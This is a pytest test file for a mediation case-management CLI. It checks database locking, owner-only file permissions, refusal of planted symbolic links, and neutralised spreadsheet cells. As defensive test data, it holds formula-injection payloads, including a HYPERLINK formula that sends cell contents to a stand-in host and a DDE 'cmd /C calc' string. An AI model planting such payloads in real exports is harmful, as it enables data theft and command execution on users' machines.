"""Issue 11, personal data by every path: locks, files on disk, links, spreadsheet cells."""

from __future__ import annotations

import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.conftest import DATA, Result

Cli = Callable[..., Result]


pytestmark = pytest.mark.parametrize("backend", ["sqlite"])  # files, links, SQLite locks


@pytest.fixture
def sqlite_cli(cli: Cli, cli_db: str) -> Iterator[tuple[Cli, Path]]:
    """The in-process CLI on a SQLite file with a committee (no sign-in) and one case."""
    invoke, db = cli, Path(cli_db)
    assert invoke("init", "--no-login", "--committee", "龙王港社区人民调解委员会",
                  "--prefix", "龙").code == 0
    assert invoke("case", "new", "--file", str(DATA / "demo" / "case.json")).code == 0
    yield invoke, db


def test_a_read_goes_on_and_a_write_is_busy_while_another_process_holds_the_write_lock(
        sqlite_cli: tuple[Cli, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    from mediation.db import engines

    invoke, db = sqlite_cli
    engines.release_engines()
    monkeypatch.setattr(engines, "BUSY_TIMEOUT_MS", 300)
    other = sqlite3.connect(db, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")
    try:
        for read in (("case", "list"), ("case", "show", "1"), ("case", "history", "1"),
                     ("audit", "log"), ("stats", "--json"), ("audit", "verify"),
                     ("export", "nightly", "--out", str(db.parent / "exports"))):
            got = invoke(*read)
            assert got.code == 0, (read, got.err)
        for write in (("case", "accept", "1"), ("case", "show", "1", "--reveal", "--reason",
                                                "核对身份")):
            got = invoke(*write)
            assert got.code == 3, (write, got.err)
            assert got.err.count("\n") == 1 and "busy" in got.err and "try again" in got.err
    finally:
        other.rollback()
        other.close()
    assert invoke("case", "accept", "1").code == 0


def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o7777


def _today() -> str:
    from mediation.core.clock import local_date, utcnow

    return local_date(utcnow()).isoformat()


def test_the_database_its_side_files_a_backup_and_an_export_are_owner_only(
        sqlite_cli: tuple[Cli, Path], tmp_path: Path) -> None:
    import os

    invoke, db = sqlite_cli
    old = os.umask(0o022)  # a usual umask: what we create must not depend on it
    try:
        assert invoke("case", "accept", "1").code == 0
        for f in (db, Path(f"{db}-wal"), Path(f"{db}-shm")):
            assert f.exists() and _mode(f) == 0o600, (f, oct(_mode(f)))
        backup = tmp_path / "room-copy.db"  # its folder exists (outfiles.destination)
        assert invoke("db", "backup", str(backup)).code == 0
        assert _mode(backup) == 0o600
        out = tmp_path / "exports"
        got = invoke("export", "nightly", "--out", str(out), "--date", _today())
        assert got.code == 0, got.err
        assert _mode(out) == 0o700
        for f in out.rglob("*"):
            assert _mode(f) == (0o700 if f.is_dir() else 0o600), f
        report = tmp_path / "month.xlsx"
        assert invoke("report", "monthly", "--out", str(report)).code == 0
        assert _mode(report) == 0o600
        os.chmod(db, 0o644)
        checked = invoke("db", "check")
        assert "can be read by every user" in checked.err and str(db) in checked.err
    finally:
        os.umask(old)


def test_in_a_shared_group_directory_files_are_the_groups(
        cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import os

    shared = tmp_path / "srv"
    shared.mkdir()
    os.chmod(shared, 0o2770)
    db = shared / "mediation" / "room.db"
    monkeypatch.setenv("MEDIATION_DB", str(db))
    assert cli("init", "--no-login", "--committee", "测试调委会", "--prefix", "测").code == 0
    assert _mode(db) == 0o660 and _mode(db.parent) == 0o2770


def test_outputs_are_never_written_through_a_planted_link(
        sqlite_cli: tuple[Cli, Path], tmp_path: Path) -> None:
    invoke, _db = sqlite_cli
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    dest = tmp_path / "copy.db"
    dest.symlink_to(victim)
    for args in (("db", "backup", str(dest)), ("db", "backup", str(dest), "--force")):
        got = invoke(*args)
        assert got.code == 1 and "symbolic link" in got.err, got.err
    planted = tmp_path / "other.db.partial"
    planted.symlink_to(victim)
    got = invoke("db", "backup", str(tmp_path / "other.db"))
    assert got.code == 1 and "symbolic link" in got.err
    report = tmp_path / "month.xlsx"
    Path(f"{report}.partial").symlink_to(victim)
    got = invoke("report", "monthly", "--out", str(report))
    assert got.code == 1 and "symbolic link" in got.err, got.err
    Path(f"{report}.partial").unlink()
    report.symlink_to(victim)
    got = invoke("report", "monthly", "--out", str(report))
    assert got.code == 1 and "symbolic link" in got.err
    assert victim.read_text() == "keep me"
    assert not (tmp_path / "copy.db.partial").exists()


def test_every_csv_and_xlsx_cell_is_inert(cli: Cli, tmp_path: Path) -> None:
    """A committee and an organisation named like formulas; every cell of every CSV and of the
    xlsx the product writes is text a spreadsheet shows and never runs."""
    import csv
    import io
    import json

    from openpyxl import load_workbook

    from mediation.core import cells
    from tests.conftest import case_record

    assert cli("init", "--no-login", "--committee", "=1+1调委会", "--prefix", "测").code == 0
    record = case_record()
    record["parties"][1] = {"role": "respondent", "kind": "legal_person",
                            "name": '=HYPERLINK("http://x.example/?"&A1,"物业")'}
    record["parties"].append({"role": "respondent", "kind": "organisation",
                              "name": "@SUM(1+1)*cmd|' /C calc'!A0"})
    record["parties"].append({"role": "respondent", "kind": "organisation",
                              "name": "\t-2+3"})
    made = cli("case", "new", "--file", "-", "--json", input=json.dumps(record))
    assert made.code == 0, made.err
    declined = cli("case", "decline", "1", "--reason", "party_refuses", "--advice", "=1+1 去法院")
    assert declined.code == 0, declined.err
    out = tmp_path / "exports"
    assert cli("export", "nightly", "--out", str(out), "--date", _today()).code == 0
    sheets = list(out.rglob("*.xlsx"))
    report = tmp_path / "month.xlsx"
    assert cli("report", "monthly", "--out", str(report)).code == 0
    seen = 0
    for path in out.rglob("*.csv"):
        for line in csv.reader(io.StringIO(path.read_text("utf-8-sig"))):
            for value in line:
                seen += 1
                assert not value.startswith(cells.TRIGGERS), (path.name, value)
    assert seen
    names = (out.rglob("cases.csv").__next__()).read_text("utf-8-sig")
    assert "'=HYPERLINK(\"\"http://x.example/" in names  # organisations keep their names
    for path in [*sheets, report]:
        ws = load_workbook(path).active
        assert ws is not None
        for cells_of_row in ws.iter_rows():
            for cell in cells_of_row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(cells.TRIGGERS), cell.value


def test_a_token_file_is_never_written_through_a_planted_link(
        sqlite_cli: tuple[Cli, Path], tmp_path: Path) -> None:
    invoke, _db = sqlite_cli
    assert invoke("staff", "add", "chenjing", "--name", "陈静", "--role", "clerk").code == 0
    out = tmp_path / "clerk.token"
    elsewhere = tmp_path / "elsewhere.token"
    out.symlink_to(elsewhere)  # dangling: the old code created the file where it points
    got = invoke("token", "create", "chenjing", "--days", "2", "--out", str(out))
    assert got.code == 1 and "symbolic link" in got.err, got.err
    assert not elsewhere.exists()
    out.unlink()
    assert invoke("token", "create", "chenjing", "--days", "2", "--out", str(out)).code == 0
    assert _mode(out) == 0o600
